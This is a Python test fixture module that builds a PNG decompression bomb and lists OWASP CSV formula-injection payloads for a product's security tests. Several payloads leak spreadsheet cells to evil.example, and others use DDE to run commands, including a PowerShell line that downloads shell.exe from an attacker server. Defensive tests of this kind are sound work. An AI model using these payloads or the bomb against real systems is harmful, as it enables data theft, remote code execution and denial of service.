"""Hostile input shared by the tests that attack the product: a PNG decompression bomb and
the OWASP list of CSV (formula) injection payloads."""

import struct
import zlib
from functools import cache


@cache
def png_bomb(side: int = 30_000) -> bytes:
    """A valid black-and-white PNG of side × side pixels (900 million by default) in about
    100 KB: its header alone makes Pillow refuse it as a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    rows = (b"\x00" * (1 + (side + 7) // 8)) * 1000
    data = b"".join(compressor.compress(rows) for _ in range(side // 1000))
    data += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


# OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection), the
# report's "==HYPERLINK" case, and the tab / carriage-return starts the page names.
FORMULA_PAYLOADS = [
    '==HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further info")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "=10+20+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2",
    "+1",
    "-1",
    "@A1",
]
